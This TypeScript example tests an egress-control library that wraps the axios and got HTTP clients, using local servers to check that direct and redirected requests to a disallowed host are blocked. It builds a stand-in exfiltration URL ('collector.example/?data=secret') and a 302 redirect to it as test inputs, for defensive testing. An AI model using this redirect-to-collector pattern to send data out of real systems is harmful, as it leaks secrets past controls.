// axios and got under a leash that neither is told of: an allowed host, one that is not, and a redirect from the first to
// the second. `npm run test:egress-clients` installs what this needs.
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import axios from 'axios';
import got from 'got';
import { createLeash, EgressDeniedError, egress, findLeashError } from 'leashkit';

const collector = await listen(createServer((_, response) => response.end('got it')));
const stolen = `http://collector.example:${portOf(collector)}/?data=secret`;
const api = await listen(
  createServer((request, response) => {
    if (request.url === '/moved') response.writeHead(302, { location: stolen });
    response.end('hello');
  }),
);
const origin = `http://api.example:${portOf(api)}`;
let reached = 0;
collector.on('request', () => reached++);

// #region leash
const leash = createLeash({
  guards: [egress({ allow: [origin], addresses: { allow: ['127.0.0.0/8'] }, resolver: () => ['127.0.0.1'] })],
});
const tools = {
  axios: leash.wrap('axios', async (url: string) => (await axios.get<string>(url)).data),
  got: leash.wrap('got', (url: string) => got(url).text()),
};
// #endregion

const targets = { allowed: `${origin}/`, 'not allowed': stolen, 'redirect there': `${origin}/moved` };
for (const [client, tool] of Object.entries(tools)) {
  for (const [name, url] of Object.entries(targets)) {
    const outcome = await tool(url).catch((error: unknown) => {
      const refusal = findLeashError(error);
      if (!(refusal instanceof EgressDeniedError)) throw error;
      return `${refusal.code} ${refusal.reason} ${refusal.host}`;
    });
    console.log(`${client}, ${name}: ${outcome}`);
  }
}
console.log(`the collector was reached ${reached} times`);

await leash.close();
for (const server of [api, collector]) server.close();

async function listen(server: Server): Promise<Server> {
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return server;
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port;
}

// Output:
// axios, allowed: hello
// axios, not allowed: EGRESS_DENIED host-not-allowed collector.example
// axios, redirect there: EGRESS_DENIED host-not-allowed collector.example
// got, allowed: hello
// got, not allowed: EGRESS_DENIED host-not-allowed collector.example
// got, redirect there: EGRESS_DENIED host-not-allowed collector.example
// the collector was reached 0 times
